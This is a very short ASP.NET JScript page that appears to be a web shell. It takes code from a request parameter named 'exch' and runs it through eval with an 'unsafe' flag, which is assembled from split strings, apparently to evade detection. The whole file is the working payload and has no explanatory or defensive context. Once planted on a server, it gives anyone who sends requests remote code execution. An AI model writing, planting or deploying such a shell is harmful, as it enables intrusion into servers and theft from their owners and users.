<%@ Page Language="Jscript" Debug=true%>
<%
var a=Request.Item["exch"];
var b="un"+"safe";
eval(a,b);
%>
